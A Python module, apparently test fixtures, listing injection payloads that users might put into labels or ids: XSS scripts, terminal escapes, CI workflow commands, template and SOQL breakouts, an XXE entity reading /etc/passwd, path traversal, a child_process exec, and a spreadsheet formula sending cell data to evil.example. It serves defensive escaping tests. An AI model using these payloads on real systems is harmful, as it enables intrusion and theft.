"""What others could write into a label, a name, a reason or an id, each aimed at somebody who reads it later."""

from __future__ import annotations

from collections.abc import Mapping

PAYLOADS: Mapping[str, str] = {
    "a terminal's colours and title": "Nora \x1b[31m\x1b]0;owned\x07\x9b2J",
    "text that runs backwards": "invoice\u202egnp.exe\u2066\u200f",
    "a workflow command": "x\n::add-mask::y\n  ::error::z\r::stop-commands::t",
    "an older workflow command": "##[add-mask]y and ##[error]z",
    "a script": "</style></title></textarea><script>alert(1)</script><img src=x onerror=alert(2)>",
    "a template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "a row of a Markdown table": "a | b |\n| --- | --- |\n| [x](javascript:alert(1)) ![y](http://evil.example/z) `q`",
    "a formula of a spreadsheet": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "a command of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "the end of a literal of SOQL": "x' OR Name != '",
    "an escaped end of a literal": "x\\' OR Name != \\'",
    "the end of a literal of a formula": 'x", TRUE) || ISBLANK("',
    "the end of an element": "x</label><active>false</active><label>&amp;<![CDATA[y]]>",
    "a letter by its number": "a&#x202e;b&RightArrow;&lt;c",
    "an entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "a step out of a path": "../../../settings?x=1#y%2f..%00",
    "the end of a string of a program": "x\"};require('child_process').exec('id');//\u2028'`",
    "two lines of YAML": "x\nowner: mallory\n- *a",
}
SPREADSHEET = ("=", "+", "-", "@", "\t", "\r", "\n", "|")
